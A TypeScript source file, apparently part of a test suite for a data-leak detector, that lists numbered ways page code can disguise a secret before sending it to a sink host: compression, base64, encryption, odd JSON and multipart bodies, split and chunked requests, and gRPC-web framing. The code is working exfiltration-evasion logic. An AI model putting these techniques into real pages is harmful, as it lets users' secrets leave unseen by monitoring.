import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note, post } from './bodies.ts';

async function compressed(secret: Secret, format: CompressionFormat): Promise<void> {
  const stream = new Blob([note(secret.text)]).stream().pipeThrough(new CompressionStream(format));
  await post(secret, await new Response(stream).arrayBuffer(), { 'content-type': 'application/octet-stream' });
}

async function encrypted(secret: Secret): Promise<void> {
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']);
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const body = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(secret.text));
  await post(secret, body, { 'content-type': 'application/octet-stream' });
}

/** Sends the value cut at the given places, one request after the other. */
async function cut(secret: Secret, ...places: readonly number[]): Promise<void> {
  let start = 0;
  for (const end of [...places, secret.value.length]) {
    await post(secret, note(secret.value.slice(start, end)));
    start = end;
  }
}

function utf16(text: string): ArrayBuffer {
  return Uint16Array.from(text, (letter) => letter.charCodeAt(0)).buffer;
}

/** A gRPC-web message: five bytes of frame header, then a protobuf with the text as field 1 (protobuf.dev, "Encoding"). */
function grpc(text: string): Uint8Array<ArrayBuffer> {
  const plain = new TextEncoder().encode(text);
  const message = new Uint8Array([0x0a, plain.length, ...plain]);
  return new Uint8Array([0, 0, 0, 0, message.length, ...message]);
}

/** What page code does to a text before it sends it. */
export const DISGUISES: readonly Attack[] = [
  row('30', 'gzip by CompressionStream', (secret) => compressed(secret, 'gzip')),
  variant('30b', 'deflate by CompressionStream', (secret) => compressed(secret, 'deflate')),
  variant('30c', 'raw deflate by CompressionStream', (secret) => compressed(secret, 'deflate-raw')),
  row('31', 'base64 body', (secret) => post(secret, btoa(secret.text), { 'content-type': 'text/plain' })),
  row('32', 'reversed body', (secret) => post(secret, [...secret.text].reverse().join(''), { 'content-type': 'text/plain' })),
  row('73', 'UTF-16 body', (secret) => post(secret, utf16(secret.text), { 'content-type': 'text/plain;charset=utf-16le' })),
  row('74', 'value as a key of JSON', (secret) => post(secret, JSON.stringify({ [secret.value]: true, note: 'none' }))),
  variant('74b', 'JSON with the same key twice', (secret) => post(secret, `{"note":${JSON.stringify(secret.text)},"note":"none"}`)),
  variant('74c', 'JSON inside JSON, six deep', (secret) => {
    let body = secret.text;
    for (let depth = 0; depth < 6; depth += 1) body = JSON.stringify({ note: body });
    return post(secret, body);
  }),
  row('75', 'multipart, boundary that does not fit', (secret) =>
    post(secret, `--one\r\nContent-Disposition: form-data; name="note"\r\n\r\n${secret.text}\r\n--one--\r\n`, {
      'content-type': 'multipart/form-data; boundary=two',
    }),
  ),
  variant('75b', 'multipart, base64 inside a part', (secret) => {
    const form = new FormData();
    form.append('file', new File([`Content-Transfer-Encoding: base64\r\n\r\n${btoa(secret.text)}`], 'mail.eml'));
    return post(secret, form, {});
  }),
  variant('75c', 'multipart, value as the name of a field', (secret) => {
    const form = new FormData();
    form.append(secret.value, 'none');
    return post(secret, form, {});
  }),
  variant('75d', 'multipart, value as the name of a file', (secret) => {
    const form = new FormData();
    form.append('file', new File(['none'], secret.value));
    return post(secret, form, {});
  }),
  row('33', 'AES-GCM by page code', encrypted, { sign: 'cipher' }),
  row('34', 'split over two requests', (secret) => cut(secret, 12), { sign: 'pieces' }),
  variant('34b', 'split over three requests', (secret) => cut(secret, 7, 14), { sign: 'pieces' }),
  variant('62', 'gRPC-web, protobuf', (secret) => post(secret, grpc(secret.text), { 'content-type': 'application/grpc-web+proto' })),
  variant(
    '63',
    'upload in chunks, cut inside the value',
    async (secret) => {
      const whole = new Blob([`${'A line of an ordinary file.\n'.repeat(40)}${secret.text}\n`]);
      const border = whole.size - 30;
      for (const [from, to] of [
        [0, border],
        [border, whole.size],
      ] as const) {
        const headers = { 'content-range': `bytes ${from}-${to - 1}/${whole.size}` };
        await fetch(`${secret.sink}upload`, { method: 'PUT', headers, body: whole.slice(from, to) });
      }
    },
    { sign: 'pieces' },
  ),
  variant('64', 'PUT straight to a storage host', (secret) =>
    fetch(`${secret.elsewhere}put`, { method: 'PUT', body: new Blob([secret.text]) }),
  ),
];
